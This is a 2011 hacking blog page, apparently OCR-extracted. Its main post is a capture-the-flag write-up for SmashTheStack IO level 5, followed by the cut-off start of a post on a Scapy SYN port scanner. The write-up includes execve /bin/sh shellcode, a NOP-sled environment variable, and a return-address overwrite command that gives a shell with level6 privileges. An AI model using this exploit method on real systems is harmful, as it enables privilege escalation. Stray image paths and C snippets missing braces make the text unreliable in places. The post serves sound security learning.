Friday, December 30, 2011

SmashTheStack IO - Level 5: Writing my first buffer overflow

This level was a little more complicated than the previous levels. As always, we need to get the password from /home/level6/.pass. In this level we learn a little about reverse engineering and how to write a basic buffer overflow. I will list what I did to prepare for this level under requirements.


Linux Assembly Primer for Hackers
Buffer Overflow Exploitation Megaprimer for Linux

The requirements listed above should give you enough knowledge to beat level five. If you haven't watched these series from security tube, I would highly recommend them. Make sure you follow along with his examples and understand what you're doing. Anyway, lets move onto the good stuff.

What is a buffer overflow?

A buffer overflow condition exists when a programattempts to put more data in a buffer than it can hold or when a program attempts to put data in a memory area past a buffer. In this case, a buffer is a sequential section of memory allocated to contain anything from a character string to an array of integers.

login as: level5
 ____ ____
||i |||o || Welcome at IO and smashthestack!
|/__\|/__\| If you have problems connecting please contact us on IRC.(irc.smash                                                                              +6697)'s password:
 ___   _____
/\__  _\ /\  __`\       Levels are in /levels
\/_/\ \/ \ \ \/\ \      Passes are in ~/.pass
   \ \ \  \ \ \ \ \     Readmes in /home/level1
    \_\ \__\ \ \_\ \
    /\_____\\ \_____\   Server admin: bla (
    \/_____/ \/_____/

        1. No DoS, local or otherwise
        2. Do not try to connect to remote systems from this box
        3. Only two connections per IP are allowed
        4. Quotas are in place so don't waste resources
        5. This rules list is not all inclusive and is subject to change
        6. Have fuN++(29 levels)

- use long(>5char) names in /tmp, short stuff is periodically deleted, as are
easily guessable ones
- o and feel free to leave your email in /home/email.list (it's writeonly)
  or feedback in leastlikedlevels.list.
- new level24, old level24 is now level04_alt
- new beta, check irc for more info

 _    ,                    _ __            _    ,
' )  /                    ' )  )          ' )  /
 /--/ __.  _   _   __  ,   /  / _  , , ,   /  / _  __.  __
/  (_(_/|_/_)_/_)_/ (_/_  /  (_</_(_(_/_  (__/_</_(_/|_/ (_
         /   /       /                     //
        '   '       '                     (/
  4 dr-xr-xr-x  2 level5 level5   4096 Jul 29 18:57 .
  4 drwx--x--x 36 root   root     4096 Dec 21 09:38 ..
  4 -r---  1 level5 level5     13 Feb 28  2011 .pass
  8 -rw-r--r--  1 root   root     7316 Aug  1 03:33 .r2intro.tpp
  4 -rwxr-xr-x  1 root   root       43 Jul 29 18:57
144 -rw-r--r--  1 level5 level5 142195 Dec 31 05:11 tags
level5@io:~$ cd /levels
level5@io:/levels$ ls -las level05*
 8 -r-sr-x--- 1 level6 level5 7140 Nov 16  2007 level05
 4 -r--- 1 level5 level5  178 Oct  4  2007 level05.c
12 -r-sr-x--- 1 level6 level5 8752 Feb 22  2010 level05_alt
 4 -r--- 1 level5 level5 2954 Feb 24  2010 level05_alt.c
level5@io:/levels$ cat level05.c<We log into the server and start looking around. The first thing we notice is Level six owns the level05 binary. At this point, we have no idea what this binary does. Lets check out the source code to see what it does.

#include <stdio.h>
#include <string.h>

int main(int argc, char **argv) {

        char buf[128];

        if(argc < 2) return 1;

        strcpy(buf, argv[1]);

        printf("%s\n", buf);

        return 0;

Simple, it's a program coded in C to copy the first argument given at command line into a character array named buf[]. I will refer to buf[] as the buffer throughout this write up. The buffer is 128 bytes long. The most interesting part of this code is strcpy(). I decided to look at the man page to figure out exactly what this function does since I'm not familiar with C. Here's a snippet of it.


strcpy − copy a stringchar *strcpy(char *restrict s1, const char *restrict s2);


The strcpy() function shall copy the string pointed to by s2 (including the terminating null byte) into the array pointed to by s1. If copying takes place between objects that overlap, the behavior is undefined.

The vulnerability in this code can be fixed by checking the bounds of the array. However, we're not here to fix broken code. We're here to break the application itself. Since we already know how the stack works, we can most likely overwrite the return address (RA) with a pointin memory to execute whatever code we want. Albeit, we need to store our evil code (shell code) into it. Our exploit will look like this in the stack. Let N represent NOPs, S represent our shell code, and R represent the address in memory that holds our shell code.

bottom of                                                  top of
memory                                                    memory
                  buf          sfp     RA
<-----      [NNNNSS]  [     ]  [RRRR]       ----->

top of                                                       bottom of
stack                                                        stack

It's important to note this is not everything in the stack at this time. However, it doesn't matter much in this case. Our goal is to overwrite RA with an address we can control. My first attempt at this challenge I tried finding the address of buf (shell code) to overwrite the RA with. This was not easy whatsoever. Typically we use NOP (no operation) instructions to increase the likelihood that we jump to some location near our shell code. I never did get this to work properly so I decided to use a variable I could control. Anyway, lets see how we figure out if an application is vulnerable to a buffer overflow

level5@io:/levels$ ./level05
level05      level05_alt
level5@io:/levels$./level05 $(python -c 'print "A"*136')
level5@io:/levels$ ./level05 $(python -c 'print "A"*140')
Segmentation fault

We run level05 and give the program input. It appears all the program does is print the given string back to us. We keep trying to print larger strings until the program crashes. We have verified a potential buffer overflow. Next we need to make sure that we can overwrite the RA (Return Address). If we can, this will allow us to execute any shell code we want!

level5@io:/levels$ gdb level05
GNU gdb (GDB) 7.0.1-debian
Copyright (C) 2009 Free Software Foundation, Inc.
License GPLv3+: GNU GPL version 3 or later <>
This is free software: you are free to change and redistribute it.
There is NO WARRANTY, to the extent permitted by law.  Type "show copying"
and "show warranty" for details.
This GDB was configured as "i486-linux-gnu".
For bug reporting instructions, please see:
Reading symbols from /levels/level05...done.
(gdb) disassemble main
Dump of assembler code for function main:
0x080483b4 <main+0>:    push   %ebp
0x080483b5 <main+1>:    mov    %esp,%ebp
0x080483b7 <main+3>:    sub    $0xa8,%esp
0x080483bd <main+9>:    and    $0xfffffff0,%esp
0x080483c0 <main+12>:   mov    $0x0,%eax
0x080483c5 <main+17>:   sub    %eax,%esp
0x080483c7 <main+19>:   cmpl   $0x1,0x8(%ebp)
0x080483cb <main+23>:   jg     0x80483d9 <main+37>
0x080483cd <main+25>:   movl   $0x1,-0x8c(%ebp)
0x080483d7 <main+35>:   jmp    0x8048413 <main+95>
0x080483d9 <main+37>:   mov0xc(%ebp),%eax
0x080483dc <main+40>:   add    $0x4,%eax
0x080483df <main+43>:   mov    (%eax),%eax
0x080483e1 <main+45>:   mov    %eax,0x4(%esp)
0x080483e5 <main+49>:   lea    -0x88(%ebp),%eax
0x080483eb <main+55>:   mov    %eax,(%esp)
0x080483ee <main+58>:   call   0x80482d4 <strcpy@plt>
0x080483f3 <main+63>:   lea    -0x88(%ebp),%eax
0x080483f9 <main+69>:   mov    %eax,0x4(%esp)
0x080483fd<main+73>:   movl   $0x8048524,(%esp)
0x08048404 <main+80>:   call   0x80482b4 <printf@plt>
0x08048409 <main+85>:   movl   $0x0,-0x8c(%ebp)
0x08048413 <main+95>:   mov    -0x8c(%ebp),%eax
0x08048419 <main+101>:  leave
0x0804841a <main+102>:  ret
End of assembler dump.
(gdb) run $(python -c 'print "A"*140 + "B"*4')
Starting program: /levels/level05 $(python -c 'print "A"*140 + "B"*4')

Program received signal SIGSEGV, Segmentation fault.
0x42424242 in ?? ()
(gdb) i r $eip
eip            0x42424242       0x42424242
(gdb) quit
A debugging session is active.

        Inferior 1 [process 7253] will be killed.

Quit anyway? (y or n) y

Our program crashes at 140 bytes. The return address should be next in the stack. If this is the case, EIP will be 0x42 as that's the hex character for "B". Our assumption was right and EIP is assigned the value we intended. Now we need to find some shell code and finish writing our exploit. It's important to note that our shell code must be null free or the exploit won't work properly. Refer to strcpy() man page if you're confused. Earlier, we discussed filling the buffer with our shell code. I couldn't find its location in memory so I decided to use an environment variable. I highly encourage doing some research on environment variables. I learned quite a bit about them trying to beat this level. We will store our NOP sled and shell code in an environment variable named exploit.

level5@io:/levels$ export EXPLOIT=$(python -c 'print "\x90"*10000 + "\xeb\x18\x5e\x89\x76\x08\x31\xc0\x88\x46\x07\x89\x46\x0c\x89\xf3\x8d\x4e\x08\x8d\x56\x0c\xb0\x0b\xcd\x80\xe8\xe3\xff\xff\xff/bin/sh"')

level5@io:/levels$ mkdir /tmp/lopisec && cd /tmp/lopisec
level5@io:/levels$ nano /tmp/lopisec/checker.c

Here we print 10000 NOPs and our null terminated shell code by Aleph. You can find this shell code using a magical tool called Google. We have ourexploit ready, but what else do we need to do? We need to find the the location in memory environment variable "EXPLOIT" resides. We will write a simple C program to do this. I tried writing it in python first, but I wasn't able to write amore efficient version.

#include <stdio.h>
#include <stdlib.h>

int main(int argc, char **argv)
printf("\n%p\n\n", getenv("EXPLOIT"));

level5@io:/tmp/lopisec$ gcc -o checker checker.c
level5@io:/tmp/lopisec$ cd /levels
level5@io:/levels$ /tmp/lopisec/checker


We execute our newly compiled program and find the memory location of "EXPLOIT". Our goal is still to overwrite the return address with the memory location of our exploit. I began thinking to myself, why can't I print the address of "EXPLOIT" a good number of times? Turns out that I can do that and it's exactly what I did. Instead of forcing myself to be very precise, I can simply guess. We print the address of "EXPLOIT" thirty six times and a shell appears!

level5@io:/levels$ ./level05 $(python -c 'print "\x60\xb7\xff\xbf"*36')
sh-4.1$ id
uid=1005(level5) gid=1005(level5) euid=1006(level6) groups=1006(level6),1005(level5),1029(nosu)
sh-4.1$ cat /home/level6/
.pass  tags
sh-4.1$ cat /home/level6/
.pass  tags
sh-4.1$ cat /home/level6/.pass

I learned a lot from this level, and it took me awhile to understand what I was doing. I realized there's no standard way to write an exploit. There's clearly undiscovered techniques that are waiting to be unveiled. When I first started this level, I thought exploits were magical. Now I view it as nothing more thana simple concept. I'm really looking forward to the next level. If you can offer any advice or have questions, please let me know.

Thursday, December 29, 2011

Learning Scapy - SYN Stealth Port Scanner aka SynCity

For a long time I never understood what a SYN Stealth actually did. With nmap, this is the -sS option. To get a better understanding of how a SYN Stealth scan works I wrote one in python using scapy.

What is Scapy?

"Scapy is a powerful interactive packet manipulation program. It is able to forge or decode packets of a wide number of protocols, send them on the wire, capture them, match requests and replies, and much more. It can easily handle most classical tasks like scanning, tracerouting, probing, unit tests, attacks or network discovery (it can replace hping, 85% of nmap, arpspoof, arp-sk, arping, tcpdump, tethereal, p0f, etc.). It also performs very well at a lot of other specific tasks that most other tools can't handle, like sending invalid frames, injecting your own 802.11 frames, combining technics (VLAN hopping+ARP cache poisoning, VOIP decoding on WEP encrypted channel, ...), etc."

TCP Three way handshake

The TCP three way handshake in Transmission Control Protocol is the method used to establish TCP socket connections and tear down TCP socket connections over the network. TCP's three way handshaking technique is referred to as the 3-way handshake or as "SYN-SYN-ACK" (or more accurately SYN, SYN-ACK, ACK). Lets look at an example. Host A wants to open a connection to a web server on Host B.

Host A sends a TCP SYNchronize packet to Host B
Host Breceives Host A's SYN
Host B sends a SYNchronize-ACKnowledgement to Host A
Host A receives Host B's SYN-ACK
Host A sends ACKnowledge
Host B receives Host A's ACK

This completes the three way handshake which establishes a TCP socket conection. Host A is now connected to the web server running on Host B.

How does a SYN Stealth port scan work?

Host A sends SYN
Host B sends SYN-ACK
Host A sends RST

